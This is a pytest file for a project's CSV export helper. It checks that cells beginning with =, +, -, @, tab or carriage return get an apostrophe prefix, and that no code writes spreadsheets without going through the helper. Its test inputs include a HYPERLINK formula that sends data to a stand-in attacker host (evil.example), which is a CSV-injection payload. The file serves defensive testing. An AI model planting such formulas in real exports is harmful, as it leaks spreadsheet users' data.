"""Exports never carry formulas: the one CSV helper, and that every export goes through it."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

from grunderhus.exports import csv_response, csv_writer, safe_cell

ROOT = Path(__file__).resolve().parent.parent
# The project's own packages (every app, present and future), not the tests.
PACKAGES = sorted(
    d for d in ROOT.iterdir() if (d / "__init__.py").is_file() and d.name not in {"tests"}
)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (
            '=HYPERLINK("http://evil.example/?leak","klikk")',
            '\'=HYPERLINK("http://evil.example/?leak","klikk")',
        ),
        ("+47 912 34 567", "'+47 912 34 567"),  # blunt on purpose: the phone number stays readable
        ("-5", "'-5"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Kari Nordmann", "Kari Nordmann"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (-5, -5),  # the platform's own numbers stay numbers
        (Decimal("-1.50"), Decimal("-1.50")),
        (2.5, 2.5),
        (True, "True"),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_writer_makes_every_cell_safe():
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["=1+1", "ok", -3])
    writer.writerows([["@x", "+y"], ["-z", "\tw"]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["'=1+1", "ok", "-3"], ["'@x", "'+y"], ["'-z", "'\tw"]]


def test_csv_response_is_a_utf8_download_with_safe_cells():
    response = csv_response(
        "påmeldinger.csv", ["Navn", "=Header"], [["Åse", '=HYPERLINK("http://evil.example")']]
    )
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    assert "p%C3%A5meldinger.csv" in response["Content-Disposition"]
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body.removeprefix("\ufeff"))))
    assert rows == [["Navn", "'=Header"], ["Åse", '\'=HYPERLINK("http://evil.example")']]


# What writes a spreadsheet file without the helper: csv's writers, and Excel libraries.
_RAW_EXPORT = re.compile(
    r"csv\.(writer|DictWriter)\b|\bimport (openpyxl|xlsxwriter|xlwt)|"
    r"from (openpyxl|xlsxwriter|xlwt)\b|text/csv"
)


def test_every_export_goes_through_the_helper():
    """A new export written with ``csv.writer`` (or an Excel library) would skip the formula
    guard; exports use ``grunderhus.exports`` instead."""
    helper = ROOT / "grunderhus" / "exports.py"
    assert {"community", "events", "grunderhus"} <= {p.name for p in PACKAGES}
    offenders = []
    for package in PACKAGES:
        for path in package.rglob("*.py"):
            if path == helper or "migrations" in path.parts:
                continue
            for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
                if _RAW_EXPORT.search(line):
                    offenders.append(f"{path.relative_to(ROOT)}:{number}: {line.strip()}")
    assert offenders == []


def test_the_guard_sees_a_raw_writer():
    assert _RAW_EXPORT.search("    writer = csv.writer(response)")
    assert _RAW_EXPORT.search('HttpResponse(content_type="text/csv")')
    assert _RAW_EXPORT.search("from openpyxl import Workbook")
    assert not _RAW_EXPORT.search("from grunderhus.exports import csv_response")
